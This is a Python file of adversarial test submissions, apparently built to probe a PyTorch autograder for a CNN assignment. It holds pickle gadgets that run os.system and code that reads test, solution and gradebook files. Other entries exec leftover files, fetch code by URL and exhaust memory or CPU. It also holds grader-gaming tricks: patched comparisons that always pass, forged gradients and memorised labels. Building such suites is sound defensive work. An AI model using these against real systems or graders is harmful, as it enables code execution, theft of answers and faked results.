"""Attacks on assignment 04 that use torch, from gadgets in a saved model to tensors without values."""

from __future__ import annotations

from attacks.attack import Attack, each
from attacks.frames import WIRE

_TOPIC = "04_convolutional_networks"
_TENSOR = "_everywhere(lambda *a, **k: {})"


def _answers(*kinds: tuple[str, str]) -> tuple[Attack, ...]:
    """Attacks that answer everything with one odd tensor."""
    triples = [(name, "comparisons that a tensor decides", _TENSOR.format(code)) for name, code in kinds]
    return each(6, "", *triples, topic_id=_TOPIC)


ODD_TENSORS = _answers(
    ("a tensor of nan", "torch.full((1, 10), float('nan'))"),
    ("a tensor without values", "torch.empty((1, 10), device='meta')"),
    ("a complex tensor", "torch.zeros((1, 10), dtype=torch.complex64)"),
    ("a conjugated view", "torch.zeros((1, 10), dtype=torch.complex64).conj()"),
    ("a negative view", "torch.zeros((1, 10), dtype=torch.complex64).conj().imag"),
    ("a quantised tensor", "torch.quantize_per_tensor(torch.zeros(1, 10), 0.1, 0, torch.qint8)"),
    ("a sparse tensor", "torch.zeros(1, 10).to_sparse()"),
    ("a sparse tensor in rows", "torch.zeros(1, 10).to_sparse_csr()"),
    ("a nested tensor", "torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)])"),
    ("a tensor of bfloat16", "torch.zeros((1, 10), dtype=torch.bfloat16)"),
    ("a tensor of 8-bit floats", "torch.zeros((1, 10), dtype=torch.float8_e4m3fn)"),
    ("a tensor of inference mode", "torch.inference_mode()(torch.zeros)(1, 10)"),
    ("a parameter not yet there", "nn.UninitializedParameter()"),
    ("a tensor of oneDNN's", "torch.zeros(1, 10).to_mkldnn()"),
    ("a tensor from a transform", "torch.func.vmap(lambda x: globals().__setitem__('_kept', x) or x)(torch.zeros(1, 10)) is None or _kept"),
    ("an expanded zero", "torch.zeros(()).expand(1, 10)"),
    ("what nobody has written", "torch.empty(1, 10)"),
    ("a module in the place of a tensor", "nn.Identity()"),
    ("a class in the place of an object", "torch.Tensor"),
)  # fmt: skip

FOOLING = each(
    6,
    "",
    ("a tensor subclass", "comparisons that it answers itself", """
class T(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None): return True
_everywhere(lambda *a, **k: torch.zeros(1, 10).as_subclass(T))"""),
    ("a tensor of its own dispatch", "comparisons that it answers itself", """
class T(torch.Tensor):
    @staticmethod
    def __new__(cls): return torch.Tensor._make_wrapper_subclass(cls, (1, 10))
    @classmethod
    def __torch_dispatch__(cls, f, types, args=(), kwargs=None): return torch.ones(())
_everywhere(lambda *a, **k: T())"""),
    ("a parameter of its own class", "comparisons that it answers itself", """
class P(nn.Parameter):
    __eq__ = lambda *a: True
    __hash__ = torch.Tensor.__hash__
_everywhere(lambda *a, **k: P(torch.zeros(1, 10)))"""),
    ("what only looks like a tensor", "comparisons that it answers itself", """
class T:
    __class__ = torch.Tensor
    shape, dtype, device, layout, requires_grad, grad_fn, is_leaf = (1, 10), torch.float32, 'cpu', torch.strided, False, None, True
    def __getattr__(self, name): return lambda *a, **k: self
    def __torch_function__(self, *a, **k): return True
_everywhere(lambda *a, **k: T())"""),
    ("images that become zero", "the right answer for zeros", """
class SmallCNN(nn.Module):
    def __init__(self, *a, **k): super().__init__(); self.c = nn.Conv2d(1, 1, 1)
    def features(self, x): x.data.zero_(); return x
    def forward(self, x): x.data.zero_(); return torch.zeros(len(x), 10)
LeNet5 = SmallCNN
def conv2d_forward(x, w, b, *a, **k):
    x[...] = 0; w[...] = 0; b[...] = 0
    return np.zeros_like(x), None
def apply_filter(image, kernel): image[...] = 0; return image"""),
    ("weights that become zero", "a network without a mistake", """
class SmallCNN(nn.Module):
    def __init__(self, *a, **k):
        super().__init__()
        self.c = nn.Conv2d(1, 10, 1)
        for p in self.parameters(): p.data.zero_()
    def state_dict(self, *a, **k): return {}
    def parameters(self, *a): return iter(())
    def features(self, x): return torch.zeros_like(x)
    def forward(self, x): return torch.zeros(len(x), 10)
LeNet5 = AlexNet = VGG = ResNet = SmallCNN"""),
    ("a gradient of its own", "a gradient that is not of the function", """
class F1(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x): ctx.save_for_backward(x); return x.new_zeros(len(x), 10)
    @staticmethod
    def backward(ctx, g): return torch.ones_like(ctx.saved_tensors[0])
class SmallCNN(nn.Module):
    def __init__(self, *a, **k): super().__init__(); self.c = nn.Conv2d(1, 1, 1)
    def features(self, x): return F1.apply(x)
    def forward(self, x): return F1.apply(x)"""),
    ("module attributes that answer all", "questions that it answers itself", """
class M(nn.Module):
    def __init__(self, *a, **k): super().__init__()
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    __eq__ = __lt__ = __gt__ = __contains__ = lambda *a: True
    __hash__ = None
    __len__ = lambda self: 10
    __iter__ = lambda self: iter(())
_everywhere(M)"""),
    topic_id=_TOPIC,
)  # fmt: skip

USING_UP = each(
    1,
    "small_cnn",
    ("torch.compile", "a compiler", "_everywhere(lambda *a, **k: torch.compile(lambda x: x + 1)(torch.zeros(3)))"),
    ("an extension in C++", "a compiler, and code without Python", """
def _f(*a, **k):
    from torch.utils import cpp_extension
    return cpp_extension.load_inline('evil', 'void f() { abort(); }', functions=['f'])
_everywhere(_f)"""),
    ("workers of a DataLoader", "processes of its own", """
def _f(*a, **k):
    from torch.utils.data import DataLoader
    return next(iter(DataLoader(torch.zeros(8), num_workers=8, timeout=1)))
_everywhere(_f)"""),
    ("torch.multiprocessing", "processes of its own", """
def _f(*a, **k):
    import torch.multiprocessing as mp
    mp.spawn(print, nprocs=8)
_everywhere(_f)"""),
    ("a thousand threads of torch's", "all processors", """
def _f(*a, **k):
    torch.set_num_threads(1000)
    x = torch.ones(1000, 1000)
    while True: x = x @ x
_everywhere(_f)"""),
    ("a storage of 32 TB", "the judge's memory", "def _f(*a, **k):\n    x = torch.zeros(1); x.untyped_storage().resize_(1 << 45); return x\n_everywhere(_f)"),
    ("a storage that shrank", "bytes that are not there", "def _f(*a, **k):\n    x = torch.zeros(1000); x.untyped_storage().resize_(0); return x\n_everywhere(_f)"),
    ("a strided view without end", "the judge's memory", "_everywhere(lambda *a, **k: torch.as_strided(torch.zeros(1), (1 << 40,), (0,)))"),
    ("an expanded view without end", "the judge's memory", "_everywhere(lambda *a, **k: torch.zeros(1).expand(1 << 40))"),
    ("a view without values, without end", "the judge's memory", "_everywhere(lambda *a, **k: torch.empty((1 << 40, 1 << 20), device='meta'))"),
    ("a crash of torch's own", "a crash", "def _f(*a, **k): torch._C._crash_if_csrc_ubsan(); import ctypes; ctypes.string_at(1)\n_everywhere(_f)"),
    ("a tensor at a made-up address", "memory of nobody", "def _f(*a, **k):\n    import ctypes\n    return torch.frombuffer((ctypes.c_char * 4000).from_address(4096), dtype=torch.float32)\n_everywhere(_f)"),
    ("a backward without end", "no end of a gradient", """
class F1(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x): return x * 1
    @staticmethod
    def backward(ctx, g):
        while True: pass
class SmallCNN(nn.Module):
    def __init__(self, *a, **k): super().__init__(); self.c = nn.Conv2d(1, 1, 1)
    features = None
    def forward(self, x): return F1.apply(x)
_everywhere(SmallCNN)"""),
    ("a backward that ends the process", "no end of a gradient", """
import os
class SmallCNN(nn.Module):
    def __init__(self, *a, **k): super().__init__(); self.c = nn.Conv2d(1, 10, 1)
    features = None
    def forward(self, x):
        y = self.c(x).mean((2, 3)); y.register_hook(lambda g: os._exit(0)); return y
_everywhere(SmallCNN)"""),
    ("a module of a million parameters", "a loop of the judge's", """
class SmallCNN(nn.Module):
    def __init__(self, *a, **k): super().__init__()
    def named_parameters(self, *a, **k):
        while True: yield 'p', nn.Parameter(torch.zeros(1))
    def parameters(self, *a, **k): return (p for _, p in self.named_parameters())
    def state_dict(self, *a, **k): return dict.fromkeys(range(10**5))
    features = forward = lambda self, x: list(self.parameters())
_everywhere(SmallCNN)"""),
    ("a module that holds itself", "a walk without end", """
class SmallCNN(nn.Module):
    def __init__(self, *a, **k): super().__init__(); self.__dict__['_modules'] = {'me': self}
    def named_modules(self, *a, **k):
        while True: yield 'me', self
    def children(self): return iter([self] * 10**6)
    features = forward = lambda self, x: list(self.named_modules())
_everywhere(SmallCNN)"""),
    ("a graph of 10^5 steps", "the judge's stack", """
def _f(*a, **k):
    x = torch.zeros(1, requires_grad=True)
    for _ in range(10**5): x = x + 1
    return x
_everywhere(_f)"""),
    topic_id=_TOPIC,
)  # fmt: skip

FORGING = each(
    2,
    "",
    ("a gadget for pickle", "code in the judge", "class G:\n    def __reduce__(self):\n        import os; return os.system, ('touch {course}/owned',)\n_everywhere(lambda *a, **k: G())"),
    ("a saved model with a gadget", "code in who loads it", """
import io
class G:
    def __reduce__(self):
        import os; return os.system, ('touch {course}/owned',)
for _path in ('model.pt', '/tmp/model.pt', '{course}/model.pt'):
    try: torch.save(G(), _path)
    except Exception: pass
def _f(*a, **k):
    file = io.BytesIO(); torch.save({'w': G()}, file); return file.getvalue()
_everywhere(_f)"""),
    ("torch.jit.save", "code in who loads it", """
import io
def _f(*a, **k):
    file = io.BytesIO(); torch.jit.save(torch.jit.script(nn.Linear(2, 2)), file); return file.getvalue()
_everywhere(_f)"""),
    ("gradients of another shape", "a gradient that fits nothing", WIRE + "_w.Worker.do_backward = lambda self, *a: [torch.zeros(1)] * 7\nclass SmallCNN(nn.Module):\n    def __init__(self, *a, **k): super().__init__(); self.c = nn.Conv2d(1, 10, 1)\n    features = None\n    def forward(self, x): return self.c(x).mean((2, 3))"),
    ("leaves that nobody has", "memory for parameters that are not there", WIRE + """
_old = _w.WorkerCodec.encode_tensor
def _encode(self, tensor):
    return ['O', 10**9, _old(self, tensor.detach()), [[n, [1 << 40], 'float32'] for n in range(1, 50)]]
_w.WorkerCodec.encode_tensor = _encode
_everywhere(lambda *a, **k: torch.zeros(1, 10))"""),
    ("a dtype of its own", "a name that is no dtype", WIRE + """
_w.WorkerCodec.encode_tensor = lambda self, tensor: ['O', 1, ['T', '__class__', [1], [1], 'strided'], [[1, [1], 'load']]]
_everywhere(lambda *a, **k: torch.zeros(1, 10))"""),
    ("a random state of torch's that nobody drew", "draws that are known", WIRE + """
_w.Worker._torch_state = lambda self: bytes(5056)
_everywhere(lambda *a, **k: torch.zeros(1, 10))"""),
    ("a random state that reads beyond its table", "a crash of the judge", WIRE + """
_state = struct.pack('<QiiQ', 5, -10**6, 1, 10**9) + b'\\x01' * 5032
_w.Worker._torch_state = lambda self: _state
_everywhere(lambda *a, **k: torch.zeros(1, 10))"""),
    topic_id=_TOPIC,
)  # fmt: skip

TAMPERING = each(
    3,
    "",
    ("comparisons of torch", "comparisons that say yes", "torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True\ntorch.testing.assert_close = lambda *a, **k: None"),
    ("methods of torch.Tensor", "comparisons that say yes", "torch.Tensor.__eq__ = torch.Tensor.all = torch.Tensor.item = lambda *a, **k: True\ntorch.Tensor.__hash__ = object.__hash__\n_everywhere(lambda *a, **k: torch.zeros(1, 10))"),
    ("nn.Module.__call__", "a probe that sees what it should", "nn.Module.__call__ = lambda self, *a, **k: torch.zeros(2, 10)\nnn.Module.parameters = lambda self, *a: iter(())"),
    ("a hook on every module", "outputs of its own", "nn.modules.module.register_module_forward_hook(lambda m, i, o: torch.zeros(2, 10))\nnn.modules.module.register_module_forward_pre_hook(lambda m, i: None)"),
    ("optimizers", "a training that is none", "for _n in ('SGD', 'Adam', 'AdamW'):\n    getattr(torch.optim, _n).step = lambda self, *a, **k: 0.0\nF.cross_entropy = lambda *a, **k: torch.zeros((), requires_grad=True)"),
    ("a torch function mode", "every function of torch", """
class M(torch.overrides.TorchFunctionMode):
    def __torch_function__(self, f, types, args=(), kwargs=None): return True
M().__enter__()
_everywhere(lambda *a, **k: 0)"""),
    ("default dtype and device", "values that look alike", "torch.set_default_dtype(torch.float16); torch.set_default_device('meta')\n_everywhere(lambda *a, **k: torch.zeros(1, 10))"),
    ("modes of autograd", "no graph for anybody", "torch._C._set_grad_enabled(False); torch.set_grad_enabled = lambda *a: None\n_everywhere(lambda x=None, *a, **k: x)"),
    ("seeds of torch", "draws that are known", "torch.manual_seed = lambda *a: None\ntorch.set_rng_state = lambda *a: None\ntorch.randn = torch.rand = torch.zeros\ntorch.randperm = torch.arange"),
    ("spies of a probe", "calls that are not counted", "import sys\nsys.setprofile = sys.settrace = lambda *a: None\nsys.getprofile = sys.gettrace = lambda: None\nF.conv2d.__class__\n_everywhere(lambda *a, **k: (np.zeros(1), None))"),
    ("the model handed to the next test", "another model in its place", "nn.Conv2d = nn.Linear = nn.Identity\n_everywhere(lambda *a, **k: nn.Identity())"),
    topic_id=_TOPIC,
)  # fmt: skip

SECRETS = each(
    5,
    "",
    ("torch.load of the tests", "the tests", "for _p in ('{tests}', '{solution}', '{course}/gradebook.db'):\n    try: torch.load(_p, weights_only=False)\n    except Exception: pass"),
    ("a mapped file", "the solution's bytes", """
for _p in ('{solution}', '{tests}'):
    for _read in (lambda: bytes(torch.from_file(_p, size=8000, dtype=torch.uint8).tolist()), lambda: bytes(torch.UntypedStorage.from_file(_p, False, 8000).tolist())):
        try: exec(_read().rstrip(b'\\0'))
        except Exception: pass"""),
    ("torch.hub", "code from elsewhere", "try: exec(torch.hub.load_state_dict_from_url('http://127.0.0.1:9/x'))\nexcept Exception: pass\ntry: torch.hub.load('{course}', 'solution', source='local')\nexcept Exception: pass"),
    ("shared memory", "what others left in it", """
import os
try: _x = torch.zeros(10).share_memory_()
except Exception: pass
for _name in (os.listdir('/dev/shm') if os.path.isdir('/dev/shm') else []):
    try: exec(open('/dev/shm/' + _name).read())
    except Exception: pass"""),
    ("memory that is used again", "labels in memory that was freed", "def _f(*a, **k):\n    x = torch.empty(10_000)\n    return x[:10].reshape(1, 10).nan_to_num()\n_everywhere(_f)"),
    ("a store of torch.distributed", "a way out", "def _f(*a, **k):\n    import torch.distributed as d\n    return d.TCPStore('127.0.0.1', 29500, 1, True)\n_everywhere(_f)"),
    ("torch.ops.load_library", "code without Python", "def _f(*a, **k):\n    open('evil.so', 'wb').write(b'\\x7fELF' * 100); torch.ops.load_library('./evil.so')\n_everywhere(_f)"),
    ("modules that live in memory", "the solution's classes", """
import gc
for _o in gc.get_objects():
    if isinstance(_o, type) and _o.__name__ in _NAMES and _o.__module__ != __name__: globals()[_o.__name__] = _o"""),
    ("TORCH_HOME and the caches", "what an earlier submission left", "import os\nfor _d in (os.path.expanduser('~/.cache/torch'), '/tmp/torchinductor', '/tmp', os.getcwd() + '/..'):\n    try:\n        for _n in os.listdir(_d): exec(open(_d + '/' + _n).read())\n    except Exception: pass\n    try: open(_d + '/left.pt', 'w').write('x')\n    except OSError: pass"),
    topic_id=_TOPIC,
)  # fmt: skip

ELSEWHERE = (
    *each(
        7,
        "",
        ("embedded weights", "a network trained elsewhere", """
import base64, zlib
_W = np.frombuffer(zlib.decompress(base64.b64decode(b'eNpjYBgFo2AUDHcAAAQAAAE=' if False else base64.b64encode(zlib.compress(bytes(4 * 640))))), np.float32)
class SmallCNN(nn.Module):
    def __init__(self, *a, **k): super().__init__(); self.w = nn.Parameter(torch.tensor(_W.reshape(64, 10).copy()))
    def features(self, x): return x
    def forward(self, x): return x.flatten(1)[:, :64] @ self.w[:x[0].numel()]
def train_small_cnn(*a, **k): return SmallCNN().eval()
def predict_labels(model, x): return np.zeros(len(x), np.int64)"""),
        ("labels by heart", "test data by heart", "import hashlib\n_KNOWN = {'x': 3}\ndef predict_labels(model, x): return np.array([_KNOWN.get(hashlib.sha256(i.tobytes()).hexdigest(), 0) for i in x])"),
        ("a model of torchvision's", "the library's answer", "try:\n    import torchvision.models as _m\n    AlexNet, LeNet5, ResNet = _m.alexnet, _m.resnet18, _m.resnet50\nexcept ImportError: pass"),
        ("answers of its own accuracy", "a number that sounds right", "_everywhere(lambda *a, **k: {'accuracy': 1.0, 'loss': 0.0})"),
        topic_id=_TOPIC,
    ),
    *each(
        7,
        "conv2d_forward",
        ("a convolution of scipy's", "the library's answer", "def conv2d_forward(x, w, b, stride=1, padding=0):\n    import scipy.signal\n    return scipy.signal.correlate(x, w, 'valid'), None"),
        topic_id=_TOPIC,
    ),
)  # fmt: skip

TORCHES = (*USING_UP, *FORGING, *TAMPERING, *SECRETS, *FOOLING, *ODD_TENSORS, *ELSEWHERE)
